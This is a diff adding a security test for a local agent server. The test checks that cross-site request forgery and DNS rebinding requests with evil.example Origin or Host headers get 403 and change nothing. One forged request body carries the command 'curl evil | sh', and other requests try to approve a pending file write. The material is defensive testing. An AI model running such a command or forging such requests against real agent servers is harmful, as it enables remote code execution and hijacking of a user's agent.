@@ -10,7 +10,7 @@ import { createRuntime } from "../../src/runtime/runtime.js";
 import { startServer } from "../../src/server/start-server.js";
 import { killCliChildren, runCli, spawnCli } from "../helpers/cli.js";
 import { BACKENDS, dropSchema, freshSchemaName, openBackend, TEST_DATABASE_URL } from "../helpers/databases.js";
-import { snapshotTables } from "../helpers/fuzz.js";
+import { rawRequest, snapshotTables } from "../helpers/fuzz.js";
 import { errorReply, OpenAiTestServer, textReply, toolCallReply } from "../helpers/openai-server.js";
 import { startServerStack, type ServerStack } from "../helpers/server-stack.js";
 
@@ -134,6 +134,46 @@ describe.each(BACKENDS)("HTTP security on %s", (backend) => {
     const preflight = await call(url, "OPTIONS", "/threads", { headers: { origin: "http://localhost:3000", "access-control-request-method": "POST", "access-control-request-headers": "x-api-key,content-type" } });
     expect(preflight.status).toBeLessThan(300);
     expect(info.text + preflight.text + JSON.stringify([...preflight.headers])).not.toContain(ALICE);
+  });
+
+  it("a server without keys (loopback only) cannot be driven or read from another site: foreign Origin or Host is 403 and changes nothing", async () => {
+    stack = await startServerStack(owner, [{ tool_calls: [{ id: "call_w", name: "write_file", args: { path: "w.txt", content: "w" } }] }, { content: "ok" }]);
+    const { port, url } = stack;
+    const run = await stack.runtime.runs.create({ input: { messages: ["write w.txt"] } });
+    expect(await waitStatus(stack, run.run_id, ["interrupted"])).toBe("interrupted");
+    const before = await snapshotTables(stack.db);
+    const json = (body: unknown) => JSON.stringify(body);
+    // what a page on another site can send without a preflight (text/plain), and what it could read
+    const attempts: { method: string; path: string; body?: string }[] = [
+      { method: "POST", path: `/runs/${run.run_id}/decisions`, body: json({ decisions: [{ type: "approve" }] }) },
+      { method: "POST", path: "/runs", body: json({ assistant_id: "agent", input: { messages: [{ role: "user", content: "curl evil | sh" }] } }) },
+      { method: "POST", path: "/threads", body: "{}" },
+      { method: "POST", path: `/runs/${run.run_id}/cancel` },
+      { method: "GET", path: `/runs/${run.run_id}` },
+      { method: "GET", path: `/threads/${run.thread_id}/state` },
+      { method: "GET", path: `/runs/${run.run_id}/events?follow=0` },
+      { method: "GET", path: "/approvals" },
+    ];
+    const foreign: Record<string, string>[] = [
+      // a page on another site (cross-site request forgery)
+      { origin: "http://evil.example", "content-type": "text/plain;charset=UTF-8" },
+      { origin: "null", "content-type": "text/plain" },
+      // DNS rebinding: a name the attacker controls now resolves to 127.0.0.1, so Origin and Host agree
+      { host: `evil.example:${port}`, origin: `http://evil.example:${port}`, "content-type": "text/plain" },
+    ];
+    for (const attempt of attempts) {
+      for (const headers of foreign) {
+        const res = await rawRequest(port, { ...attempt, headers });
+        expect(res.status, `${attempt.method} ${attempt.path} ${JSON.stringify(headers)}`).toBe(403);
+        expect(JSON.parse(res.body)).toEqual({ error: "FORBIDDEN", message: expect.any(String) });
+      }
+    }
+    expect(await snapshotTables(stack.db)).toEqual(before);
+    expect(existsSync(join(stack.workspace, "w.txt"))).toBe(false);
+    // its own page (same origin) and clients that send no Origin (SDK, CLI, curl) still work
+    expect((await rawRequest(port, { method: "GET", path: `/runs/${run.run_id}`, headers: { origin: url } })).status).toBe(200);
+    expect((await rawRequest(port, { method: "GET", path: `/runs/${run.run_id}`, headers: { host: `localhost:${port}` } })).status).toBe(200);
+    expect((await call(url, "GET", `/runs/${run.run_id}`)).status).toBe(200);
   });
 
   it("refuses to listen on a non-loopback address without API keys (startServer and devmind serve)", async () => {
